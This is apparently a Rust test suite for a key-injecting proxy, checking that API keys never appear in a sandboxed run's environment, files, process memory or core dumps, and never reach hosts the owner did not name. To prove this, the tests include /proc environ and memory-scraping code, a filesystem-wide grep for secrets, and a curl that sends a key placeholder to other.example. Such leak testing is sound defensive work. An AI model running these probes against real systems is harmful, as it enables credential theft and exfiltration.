//! Where can my keys be found? Only at the upstream: not in the run, its files, its processes, our logs or a core.

use std::process::Command;

use crate::support::origin::Origin;
use crate::support::stand_in::openai;
use crate::support::world::greeting;
use crate::support::{Place, World};

const ALLOW: &str = "[[allow]]\nuse = \"openai\"\nsecret = \"openai\"\n";
const CALL: &str = "curl -sS --fail-with-body https://api.openai.com/v1/models";

/// A world with a provider that may be called.
fn world() -> (World, Origin) {
    let mut world = World::new();
    let key = world.secret("openai", "provider = \"openai\"");
    let origin = world.origin("api.openai.com", openai::behaviour(&key, None));
    world.policy(ALLOW);
    (world, origin)
}

/// Runs a shell line in the sandbox after a call that had the key put in. The world's end searches all that came of it.
fn after_a_call(line: &str) -> crate::support::process::Finished {
    let (world, _origin) = world();
    world
        .run(&["sh", "-c", &format!("{CALL} && {{ {line}\n}}")])
        .passed()
        .says("\"small\"")
}

#[test]
fn the_environment_of_a_run_holds_placeholders_only() {
    after_a_call("env").says("OPENAI_API_KEY=");
}

#[test]
fn no_process_that_a_run_can_see_shows_a_key() {
    after_a_call(
        "cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/[0-9]*/maps 2>/dev/null | tr '\\0' '\\n'; true",
    );
}

#[test]
fn no_memory_that_a_run_can_read_shows_a_key() {
    let program = r#"
import glob, re, sys
for maps in glob.glob("/proc/[0-9]*/maps"):
    try:
        lines, memory = open(maps).readlines(), open(maps.replace("maps", "mem"), "rb", 0)
        for line in lines:
            start, end, rights = re.match(r"(\w+)-(\w+) (\S+)", line).groups()
            if "r" in rights and "[v" not in line:
                memory.seek(int(start, 16))
                found = re.findall(rb"test-secret-openai-[0-9a-f]{32}", memory.read(int(end, 16) - int(start, 16)))
                sys.stdout.buffer.write(b"".join(found))
    except (OSError, ValueError, OverflowError):
        pass
"#;
    let (world, _origin) = world();
    world.file("look.py", program);
    world
        .run(&["sh", "-c", &format!("{CALL} && python3 look.py")])
        .passed();
}

#[test]
fn no_file_that_a_run_can_read_holds_a_key() {
    after_a_call(
        "grep -rIh 'test-secret-' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr 2>/dev/null; true",
    );
}

#[test]
fn a_crash_in_a_run_leaves_no_core_behind() {
    let (world, _origin) = world();
    let finished = world.run(&[
        "sh",
        "-c",
        &format!("{CALL}; ulimit -c unlimited; kill -SEGV $$"),
    ]);
    finished.exited(128 + 11);
    let listed = world.run(&["sh", "-c", "ls -la . /tmp"]).passed();
    listed.says_nothing_of("core");
}

#[test]
fn a_crash_of_the_server_leaves_no_key_in_a_core() {
    let (world, _origin) = world();
    let serving = world.serve();
    let run = serving.create_run(&world);
    run.run(&world, &["sh", "-c", CALL]).passed();
    let pid = serving.pid().to_string();
    assert!(
        Command::new("kill")
            .args(["-ABRT", &pid])
            .status()
            .unwrap()
            .success()
    );
    serving.kill();
}

#[test]
fn other_users_processes_cannot_read_the_servers_memory() {
    let (world, _origin) = world();
    let serving = world.serve();
    let limits = std::fs::read_to_string(format!("/proc/{}/limits", serving.pid())).unwrap();
    let core = limits
        .lines()
        .find(|line| line.starts_with("Max core file size"))
        .unwrap();
    let soft = core.split_whitespace().nth(4).unwrap();
    assert!(["0", "1"].contains(&soft), "{core}");
}

#[test]
fn with_a_mistake_in_the_owners_file_nothing_runs() {
    let (mut world, _origin) = world();
    world.run(&["true"]).passed();
    world.secret_entry("other", "provider = \"openai\"\nsource = 7");
    world.run(&["true"]).exited(78).says("source");
}

#[test]
fn a_key_may_come_from_a_variable() {
    let mut world = World::new();
    let key = world.plant("openai");
    world.secret_entry(
        "openai",
        "provider = \"openai\"\nsource = { env = \"MY_KEY\" }",
    );
    let _origin = world.origin("api.openai.com", openai::behaviour(&key, None));
    world.policy(ALLOW);
    let mut command = world.command(&["run", "--", "sh", "-c", &format!("{CALL} && env")]);
    command.env("MY_KEY", &key);
    world
        .finish(command, "")
        .passed()
        .says("\"small\"")
        .says_nothing_of("MY_KEY");
}

#[test]
fn a_key_may_come_from_a_command() {
    let mut world = World::new();
    let key = world.secret("openai", "provider = \"openai\"");
    let file = world.path("config/keys/openai").display().to_string();
    let entry = format!("provider = \"openai\"\nsource = {{ command = [\"/bin/cat\", {file:?}] }}");
    world.secret_entry("openai", &entry);
    let _origin = world.origin("api.openai.com", openai::behaviour(&key, None));
    world.policy(ALLOW);
    world.run(&["sh", "-c", CALL]).passed().says("\"small\"");
}

#[test]
fn a_key_may_come_from_the_encrypted_store() {
    let mut world = World::new();
    let key = world.plant("openai");
    let add = world.command(&["secret", "add", "openai", "--provider", "openai"]);
    world.finish(add, &format!("{key}\n")).passed();
    let _origin = world.origin("api.openai.com", openai::behaviour(&key, None));
    world.policy(ALLOW);
    world.run(&["sh", "-c", CALL]).passed().says("\"small\"");
}

#[test]
fn a_key_that_cannot_be_read_is_told_without_its_place() {
    let mut world = World::new();
    world.secret_entry(
        "openai",
        "provider = \"openai\"\nsource = { file = \"/nowhere/the-key\" }",
    );
    let origin = world.origin("api.openai.com", openai::behaviour("x", None));
    world.policy(ALLOW);
    let finished = world.run(&["sh", "-c", "curl -sS https://api.openai.com/v1/models"]);
    assert!(!finished.stdout.contains("nowhere"), "{}", finished.stdout);
    assert!(origin.seen().is_empty());
}

#[test]
fn a_key_goes_to_no_host_that_its_owner_did_not_name() {
    let mut world = World::new();
    world.secret("openai", "provider = \"openai\"");
    let origin = world.origin("other.example", greeting());
    // Whether the policy or the request is refused, the key must not arrive.
    world.write_policy("[[allow]]\nhost = \"other.example\"\nsecret = \"openai\"\n");
    let approve = world.valetkey(&["check", "--json"]);
    if approve.code() == 0 {
        let digest = approve.json()["digest"].as_str().unwrap().to_owned();
        world.valetkey(&["policy", "approve", "--digest", &digest]);
        world.run(&["curl", "-sS", "https://other.example/"]);
    }
    assert!(origin.seen().iter().all(|seen| !seen.has("authorization")));
}

#[test]
fn a_placeholder_sent_to_another_host_is_refused() {
    let (mut world, _origin) = world();
    let other = world.origin("other.example", greeting());
    world.policy(&format!("{ALLOW}[[allow]]\nhost = \"other.example\"\n"));
    let line = "curl -sS -H \"X-Note: $OPENAI_API_KEY\" https://other.example/";
    world.run(&["sh", "-c", line]).says("placeholder-misplaced");
    assert!(other.seen().is_empty());
    world
        .run(&[
            "sh",
            "-c",
            "curl -sS -H 'X-Note: none' https://other.example/",
        ])
        .says("hello");
}

#[test]
fn the_runs_token_leaves_in_no_field() {
    let (mut world, _origin) = world();
    let other = world.origin("other.example", greeting());
    world.policy(&format!("{ALLOW}[[allow]]\nhost = \"other.example\"\n"));
    let serving = world.serve();
    let run = serving.create_run(&world);
    for token in [&run.token, &run.alias] {
        let field = format!("X-Note: {token}");
        let finished = run.run(
            &world,
            &["curl", "-sS", "-H", &field, "https://other.example/"],
        );
        finished.says("placeholder-misplaced");
    }
    assert!(other.seen().is_empty());
    run.run(&world, &["curl", "-sS", "https://other.example/"])
        .says("hello");
    assert!(!other.last().has("proxy-authorization"));
}

#[test]
fn a_revoked_runs_token_opens_nothing() {
    let (world, origin) = world();
    let place = Place::sidecar(world);
    place.run(&["sh", "-c", CALL]).passed();
    place.revoke();
    // The server hears of it from another process, so a request or two may still pass; then none does.
    let refused = (0..500).any(|_| place.run(&["sh", "-c", CALL]).code() != 0);
    assert!(refused, "the token still opens the door");
    let arrived = origin.seen().len();
    assert_ne!(place.run(&["sh", "-c", CALL]).code(), 0);
    assert_eq!(origin.seen().len(), arrived);
}

#[test]
fn a_key_reaches_each_kind_of_slot() {
    let cases = [
        ("inject = { header = \"X-Api-Key\" }", "/x"),
        ("inject = { query = \"key\" }", "/x"),
        ("inject = { cookie = \"session\" }", "/x"),
        ("inject = { path = \"/bot{secret}/\" }", "/bot-/send"),
    ];
    for (binding, _) in cases {
        let mut world = World::new();
        let key = world.secret("slot", &format!("hosts = [\"slot.example\"]\n{binding}"));
        let origin = world.origin("slot.example", greeting());
        world.policy("[[allow]]\nhost = \"slot.example\"\nsecret = \"slot\"\n");
        let place = Place::sidecar(world);
        let placeholder = place.placeholder("slot");
        let path = if binding.contains("path") {
            format!("/bot{placeholder}/send")
        } else {
            "/x".to_owned()
        };
        place
            .run(&["curl", "-sS", &format!("https://slot.example{path}")])
            .says("hello");
        let seen = origin.last();
        let everything = format!(
            "{} {} {}",
            seen.target(),
            seen.field("x-api-key"),
            seen.field("cookie")
        );
        assert!(
            everything.contains(&key),
            "{binding}: the key did not arrive"
        );
    }
}
